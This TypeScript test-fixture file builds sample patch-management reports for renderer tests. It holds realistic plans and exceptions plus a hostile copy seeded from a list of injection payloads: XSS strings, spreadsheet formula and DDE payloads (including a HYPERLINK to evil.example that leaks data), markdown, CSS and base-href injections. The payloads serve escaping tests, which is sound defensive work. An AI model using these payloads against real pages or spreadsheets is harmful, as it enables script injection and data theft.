// Report documents for the renderer tests: a realistic workspace (every plan state, every tier,
// waves in every status, exceptions in every state) and a hostile copy in which every text field
// carries markup, script, link, formula or table-breaking payloads.

import { type ExceptionReport, type PlanReport, type ReportDocument, type WaveReport } from '../../../src/core/report/reportModel';
import { TIERS, type ExceptionState, type Kpis, type PlanState, type Tier } from '../../../src/core/model/vocabulary';

const AS_OF = '2026-11-23T12:00:00.000Z';

function wave(name: string, status: WaveReport['status'], targets: number | null, patched = 0, failed = 0, extra: Partial<WaveReport> = {}): WaveReport {
  return {
    name,
    status,
    targets,
    patched,
    failed,
    percent: targets === null || targets === 0 ? null : Math.round((patched / targets) * 1000) / 10,
    started: null,
    completed: null,
    blockedBy: null,
    startedEarly: null,
    ...extra,
  };
}

type PlanInput = Partial<PlanReport> & Pick<PlanReport, 'id' | 'title' | 'state' | 'tier'>;

/** A plan whose endpoint totals are derived from its waves, as the core does. */
function plan(input: PlanInput): PlanReport {
  const waves = input.waves ?? [];
  const sum = (f: (w: WaveReport) => number): number => waves.reduce((a, w) => a + f(w), 0);
  const endpoints = { targets: sum((w) => w.targets ?? 0), patched: sum((w) => w.patched), failed: sum((w) => w.failed) };
  return {
    file: `plans/${input.id.toLowerCase()}.plan.yaml`,
    owner: 'it-ops',
    validator: 'infosec',
    groups: ['pilot'],
    sla: 'standard',
    status: 'active',
    severity: 'high',
    impact: 'medium',
    kev: false,
    testing: 'passed',
    clockStart: null,
    deadline: null,
    remediatedAt: null,
    timeToPatchHours: null,
    endpoints,
    endpointsPercent: endpoints.targets === 0 ? null : Math.round((endpoints.patched / endpoints.targets) * 1000) / 10,
    vulnerabilities: [],
    riskModel: 'matrix',
    deadlineBy: null,
    pairs: [],
    waves,
    exemptedBy: [],
    unknownReason: null,
    ...input,
  };
}

const vuln = (id: string, severity: PlanReport['severity'], score: number | null, kev = false, inScope = true): PlanReport['vulnerabilities'][number] => ({
  id,
  severity,
  score,
  kev,
  inScope,
});

function realisticPlans(): PlanReport[] {
  return [
    plan({
      id: 'PLAN-2026-041',
      title: 'Chrome zero-day (CVE-2026-1234)',
      state: 'breached',
      tier: 'critical',
      severity: 'high',
      impact: 'high',
      kev: true,
      clockStart: '2026-11-19T21:00:00.000Z',
      deadline: '2026-11-22T21:00:00.000Z',
      deadlineOrigin: 'critical tier: 72h from testing passed',
      groups: ['pilot', 'kiosks'],
      vulnerabilities: [vuln('CVE-2026-1234', 'high', 8.8, true), vuln('CVE-2026-1240', 'medium', null)],
      exemptedBy: ['EXC-2026-007'],
      waves: [
        wave('Pilot', 'complete', 25, 25, 0, { started: '2026-11-20T00:00:00.000Z', completed: '2026-11-20T16:00:00.000Z' }),
        wave('Departments', 'in_progress', 12, 4, 0, { started: '2026-11-21T15:00:00.000Z' }),
        wave('Organization', 'planned', 40, 0, 0, { blockedBy: 'Departments is not complete (4 of 12 patched, gate needs 95%)' }),
      ],
    }),
    plan({
      id: 'PLAN-2026-046',
      title: 'VPN appliance remote code execution',
      state: 'breached',
      tier: 'critical',
      severity: 'critical',
      impact: 'high',
      kev: true,
      clockStart: '2026-11-18T15:00:00.000Z',
      deadline: '2026-11-21T15:00:00.000Z',
      owner: 'net-ops',
      groups: ['vpn', 'pilot'],
      vulnerabilities: [vuln('CVE-2026-2001', 'critical', 9.8, true), vuln('CVE-2026-2002', 'medium', 5.3)],
      waves: [
        wave('Pilot', 'complete', 4, 4, 0, { started: '2026-11-18T20:00:00.000Z', completed: '2026-11-19T08:00:00.000Z' }),
        wave('Data centres', 'in_progress', 12, 6, 1, { started: '2026-11-20T14:00:00.000Z' }),
        wave('Branch offices', 'planned', 24, 0, 0, { blockedBy: 'Data centres is not complete' }),
      ],
    }),
    plan({
      id: 'PLAN-2026-044',
      title: 'OpenSSL 3 security update',
      state: 'due_soon',
      tier: 'high',
      severity: 'high',
      impact: 'medium',
      clockStart: '2026-11-17T03:00:00.000Z',
      deadline: '2026-11-24T03:00:00.000Z',
      vulnerabilities: [vuln('CVE-2026-3100', 'high', 7.5)],
      waves: [
        wave('Pilot', 'complete', 25, 25, 0, { started: '2026-11-17T18:00:00.000Z', completed: '2026-11-18T18:00:00.000Z' }),
        wave('Linux servers', 'in_progress', 48, 30, 2, { started: '2026-11-20T15:00:00.000Z' }),
      ],
    }),
    plan({
      id: 'PLAN-2026-039',
      title: 'Windows November cumulative update',
      state: 'on_track',
      tier: 'medium',
      severity: 'high',
      impact: 'low',
      clockStart: '2026-11-12T00:00:00.000Z',
      deadline: '2026-12-16T00:00:00.000Z',
      vulnerabilities: [vuln('CVE-2026-4400', 'high', 7.8), vuln('CVE-2026-4401', 'medium', 6.5)],
      waves: [
        wave('Pilot', 'in_progress', 25, 10, 0, { started: '2026-11-22T00:00:00.000Z' }),
        wave('Departments', 'planned', 300, 0, 0, { blockedBy: 'Pilot is not complete' }),
        wave('Organization', 'planned', 900),
      ],
    }),
    plan({
      id: 'PLAN-2026-045',
      title: 'Kiosk shell hotfix',
      state: 'awaiting_test',
      tier: 'high',
      severity: 'critical',
      impact: 'low',
      testing: 'in_progress',
      vulnerabilities: [vuln('CVE-2026-4500', 'critical', 9.1)],
      waves: [wave('Kiosks', 'planned', 40)],
    }),
    plan({
      id: 'PLAN-2026-036',
      title: 'Adobe Acrobat Reader update',
      state: 'met',
      tier: 'high',
      clockStart: '2026-11-09T15:00:00.000Z',
      deadline: '2026-11-16T15:00:00.000Z',
      remediatedAt: '2026-11-14T12:00:00.000Z',
      timeToPatchHours: 117,
      vulnerabilities: [vuln('CVE-2026-3600', 'high', 7.8)],
      waves: [
        wave('Pilot', 'complete', 25, 25, 0, { started: '2026-11-10T00:00:00.000Z', completed: '2026-11-11T00:00:00.000Z' }),
        wave('Organization', 'complete', 610, 604, 6, { started: '2026-11-12T15:00:00.000Z', completed: '2026-11-14T12:00:00.000Z' }),
      ],
    }),
    plan({
      id: 'PLAN-2026-033',
      title: 'Java runtime critical patch',
      state: 'met',
      tier: 'critical',
      severity: 'critical',
      impact: 'high',
      clockStart: '2026-11-02T18:00:00.000Z',
      deadline: '2026-11-05T18:00:00.000Z',
      remediatedAt: '2026-11-04T10:30:00.000Z',
      timeToPatchHours: 40.5,
      vulnerabilities: [vuln('CVE-2026-3300', 'critical', 9.0)],
      waves: [
        wave('Pilot', 'complete', 10, 10, 0, { started: '2026-11-02T20:00:00.000Z', completed: '2026-11-03T08:00:00.000Z' }),
        wave('Payroll servers', 'complete', 12, 12, 0, { started: '2026-11-03T09:00:00.000Z', completed: '2026-11-04T10:30:00.000Z' }),
      ],
    }),
    plan({
      id: 'PLAN-2026-030',
      title: 'Zoom client update',
      state: 'missed',
      tier: 'medium',
      severity: 'medium',
      impact: 'medium',
      clockStart: '2026-10-08T00:00:00.000Z',
      deadline: '2026-10-21T00:00:00.000Z',
      remediatedAt: '2026-10-24T08:00:00.000Z',
      timeToPatchHours: 392,
      vulnerabilities: [vuln('CVE-2026-3000', 'medium', 6.1)],
      waves: [wave('Organization', 'complete', 880, 880, 0, { started: '2026-10-14T00:00:00.000Z', completed: '2026-10-24T08:00:00.000Z' })],
    }),
    plan({
      id: 'PLAN-2026-029',
      title: 'Legacy payroll Java 8',
      state: 'exempt',
      tier: null,
      severity: 'high',
      impact: 'high',
      vulnerabilities: [vuln('CVE-2026-2900', 'high', 8.1, false, false)],
      exemptedBy: ['EXC-2026-003'],
      waves: [wave('Payroll servers', 'planned', 12)],
    }),
    plan({
      id: 'PLAN-2026-027',
      title: 'Printer firmware refresh',
      state: 'cancelled',
      status: 'cancelled',
      tier: 'low',
      severity: 'low',
      impact: 'low',
      testing: null,
      vulnerabilities: [vuln('CVE-2026-2700', 'low', 3.1)],
      waves: [wave('Printers', 'planned', 60)],
    }),
  ];
}

type ExceptionInput = Partial<ExceptionReport> & Pick<ExceptionReport, 'id' | 'state' | 'approval'>;

function exception(input: ExceptionInput): ExceptionReport {
  return {
    file: `exceptions/${input.id.toLowerCase()}.exception.yaml`,
    plan: null,
    vulnerabilities: [],
    groups: [],
    requestedBy: 'bob@contoso.example',
    requestedOn: '2026-11-01T05:00:00.000Z',
    reason: '',
    compensatingControls: [],
    approvedBy: 'carol@contoso.example',
    approvedOn: '2026-11-02T06:00:00.000Z',
    tier: 'high',
    effective: false,
    revisitOn: null,
    approvalDetail: null,
    ...input,
  };
}

function realisticExceptions(): ExceptionReport[] {
  return [
    exception({
      id: 'EXC-2026-007',
      state: 'active',
      approval: 'verified',
      effective: true,
      plan: 'PLAN-2026-041',
      vulnerabilities: ['CVE-2026-1234'],
      groups: ['kiosks'],
      requestedOn: '2026-11-20T06:00:00.000Z',
      approvedOn: '2026-11-21T06:00:00.000Z',
      revisitOn: '2027-01-15T06:00:00.000Z',
      reason: 'Kiosk vendor certifies browser builds quarterly; this update breaks the kiosk shell.',
      compensatingControls: ['Kiosk lockdown mode', 'Outbound traffic limited to the kiosk app'],
    }),
    exception({
      id: 'EXC-2026-003',
      state: 'expiring',
      approval: 'verified',
      effective: true,
      tier: 'critical',
      plan: 'PLAN-2026-029',
      vulnerabilities: ['CVE-2026-2900'],
      groups: ['payroll-servers'],
      approvedBy: 'dan@contoso.example',
      revisitOn: '2026-12-01T06:00:00.000Z',
      reason: 'Payroll vendor supports Java 8 only until the December release.',
      compensatingControls: ['Payroll servers isolated on their own VLAN', 'Weekly vulnerability scan'],
    }),
    exception({
      id: 'EXC-2026-001',
      state: 'expired',
      approval: 'verified',
      groups: ['lab'],
      vulnerabilities: ['CVE-2026-2002'],
      revisitOn: '2026-11-20T06:00:00.000Z',
      reason: 'Lab equipment firmware cannot be updated until the vendor visit.',
      compensatingControls: ['Lab network has no internet access'],
    }),
    exception({
      id: 'EXC-2026-009',
      state: 'pending',
      approval: 'missing',
      approvedBy: null,
      approvedOn: null,
      plan: 'PLAN-2026-044',
      vulnerabilities: ['CVE-2026-3100'],
      groups: ['build-agents'],
      requestedBy: 'alice@contoso.example',
      requestedOn: '2026-11-22T15:00:00.000Z',
      revisitOn: '2027-02-01T06:00:00.000Z',
      reason: 'Build agents pin OpenSSL for reproducible builds.',
      compensatingControls: [],
    }),
    exception({
      id: 'EXC-2026-008',
      state: 'invalid',
      approval: 'unchecked',
      approvedBy: 'bob@contoso.example',
      vulnerabilities: ['CVE-2026-4400'],
      groups: ['conference-rooms'],
      revisitOn: '2027-03-01T06:00:00.000Z',
      approvalDetail: 'approved by the requester bob@contoso.example; an approver must be someone else',
      reason: 'Room PCs run a vendor image.',
      compensatingControls: ['Rooms on guest VLAN'],
    }),
    exception({
      id: 'EXC-2026-010',
      state: 'invalid',
      approval: 'unverified',
      vulnerabilities: ['CVE-2026-4401'],
      groups: ['plant-floor'],
      revisitOn: '2027-01-10T06:00:00.000Z',
      approvalDetail: 'pending review: commit it (the approval lines are not committed by carol@contoso.example)',
      reason: 'Plant floor HMIs need a maintenance window.',
      compensatingControls: ['HMIs have no e-mail or browsing'],
    }),
  ];
}

const round1 = (x: number): number => Math.round(x * 10) / 10;

/** KPIs as docs/rules.md#kpis defines them, computed from the plans and exceptions (test-side). */
function computeKpis(plans: readonly PlanReport[], exceptions: readonly ExceptionReport[]): Kpis {
  const plansByState: Partial<Record<PlanState, number>> = {};
  for (const p of plans) plansByState[p.state] = (plansByState[p.state] ?? 0) + 1;
  const exceptionsByState: Partial<Record<ExceptionState, number>> = {};
  for (const e of exceptions) exceptionsByState[e.state] = (exceptionsByState[e.state] ?? 0) + 1;
  const counted = plans.filter((p) => p.status === 'active' && p.state !== 'exempt');
  const n = (s: PlanState): number => counted.filter((p) => p.state === s).length;
  const denominator = n('met') + n('missed') + n('breached') + n('unknown');
  const active = plans.filter((p) => p.status === 'active' && p.endpoints.targets !== null);
  const targets = active.reduce((a, p) => a + p.endpoints.targets!, 0);
  const patched = active.reduce((a, p) => a + p.endpoints.patched, 0);
  const mean = (tier: Tier): number | null => {
    const hours = plans.filter((p) => p.tier === tier && p.timeToPatchHours !== null).map((p) => p.timeToPatchHours as number);
    return hours.length === 0 ? null : round1(hours.reduce((a, h) => a + h, 0) / hours.length);
  };
  return {
    slaCompliancePercent: denominator === 0 ? null : round1((n('met') / denominator) * 100),
    endpointsRemediatedPercent: targets === 0 ? null : round1((patched / targets) * 100),
    meanTimeToPatchHours: Object.fromEntries(TIERS.map((t) => [t, mean(t)])) as Record<Tier, number | null>,
    openBreaches: n('breached'),
    dueSoon: n('due_soon'),
    unknownDeadlines: n('unknown'),
    atRisk: plans.filter((p) => p.forecast?.atRisk).length,
    plansWithUnknownEndpoints: plans.filter((p) => p.status === 'active' && p.endpoints.targets === null).length,
    plansByState,
    exceptionsByState,
  };
}

/** A workspace as a CISO and an IT lead would see it on 2026-11-23. */
export function buildRealisticReport(): ReportDocument {
  const plans = realisticPlans();
  const exceptions = realisticExceptions();
  return {
    asOf: AS_OF,
    workspace: 'Contoso IT patching',
    timezone: 'America/Chicago',
    plans,
    exceptions,
    kpis: computeKpis(plans, exceptions),
    diagnostics: { errors: 0, warnings: 2, infos: 1 },
  };
}

// ---- hostile ------------------------------------------------------------------------------------

/** Payloads a file author could put in any text field. */
export const HOSTILE_PAYLOADS: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '"><img src=x onerror="window.__pwned=1;alert(1)">',
  "'><svg onload=alert(1)><a href=javascript:alert(1)>x</a>",
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?leak","click me")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '| pipe | [link](javascript:alert(1)) ![img](http://evil.example/x.png) **bold** _em_ `code` ~~s~~',
  'line one\nline two\r\n# heading\n| a | b |',
  '</style><style>body{display:none}</style>',
  '</title></textarea><!-- <base href="http://evil.example/">',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp; \\| back\\slash',
  '<http://evil.example> <b onmouseover=alert(1)>hover</b> <iframe src="javascript:alert(1)"></iframe>',
];

/** Keys whose values are enums or instants: kept valid in the hostile copy of realistic plans. */
const STRUCTURAL_KEYS = new Set([
  'asOf',
  'status',
  'severity',
  'impact',
  'tier',
  'state',
  'testing',
  'approval',
  'clockStart',
  'deadline',
  'remediatedAt',
  'started',
  'completed',
  'requestedOn',
  'approvedOn',
  'revisitOn',
]);

/** Replaces every free-text string (recursively) with the next payload. */
function poison<T>(value: T, next: () => string, key = ''): T {
  if (typeof value === 'string') return (STRUCTURAL_KEYS.has(key) ? value : next()) as T;
  if (Array.isArray(value)) return value.map((v) => poison(v, next, key)) as T;
  if (value !== null && typeof value === 'object') {
    const out: Record<string, unknown> = {};
    for (const [k, v] of Object.entries(value)) out[k] = k === 'kpis' ? v : poison(v, next, k);
    return out as T;
  }
  return value;
}

/**
 * The realistic report with every text field replaced by a payload, plus one plan and one
 * exception whose enums and instants are hostile too (the JSON could have been hand-edited), a
 * negative time to patch, and hostile KPI keys.
 */
export function buildHostileReport(): ReportDocument {
  let i = 0;
  const next = (): string => HOSTILE_PAYLOADS[i++ % HOSTILE_PAYLOADS.length];
  const doc = poison(buildRealisticReport(), next);
  const h = (): string => next();
  const weird = <T>(): T => h() as unknown as T;
  doc.plans.push(
    plan({
      id: h(),
      title: h(),
      file: h(),
      owner: h(),
      validator: h(),
      sla: h(),
      status: 'active',
      state: weird<PlanState>(),
      tier: weird<Tier>(),
      severity: weird<PlanReport['severity']>(),
      impact: weird<PlanReport['impact']>(),
      testing: weird<PlanReport['testing']>(),
      clockStart: h(),
      deadline: h(),
      remediatedAt: h(),
      timeToPatchHours: -3,
      vulnerabilities: [{ id: h(), severity: weird(), score: 9.9, kev: true, inScope: true }],
      exemptedBy: [h(), h()],
      waves: [wave(h(), weird<WaveReport['status']>(), 10, 3, 1, { started: h(), completed: h(), blockedBy: h() })],
    }),
  );
  doc.exceptions.push(
    exception({
      id: h(),
      file: h(),
      plan: h(),
      state: weird<ExceptionState>(),
      approval: weird<ExceptionReport['approval']>(),
      tier: weird<Tier>(),
      vulnerabilities: [h()],
      groups: [h()],
      requestedBy: h(),
      requestedOn: h(),
      approvedBy: h(),
      approvedOn: h(),
      revisitOn: h(),
      reason: h(),
      compensatingControls: [h(), h()],
      approvalDetail: h(),
    }),
  );
  doc.kpis = computeKpis(doc.plans, doc.exceptions);
  (doc.kpis.plansByState as Record<string, number>)[h()] = 1;
  (doc.kpis.exceptionsByState as Record<string, number>)[h()] = 1;
  return doc;
}

/** Every text value of a document (recursively), for "each one is shown escaped" checks. */
export function allStrings(value: unknown, skipKeys: ReadonlySet<string> = new Set(), key = ''): string[] {
  if (typeof value === 'string') return skipKeys.has(key) ? [] : [value];
  if (Array.isArray(value)) return value.flatMap((v) => allStrings(v, skipKeys, key));
  if (value !== null && typeof value === 'object') return Object.entries(value).flatMap(([k, v]) => allStrings(v, skipKeys, k));
  return [];
}
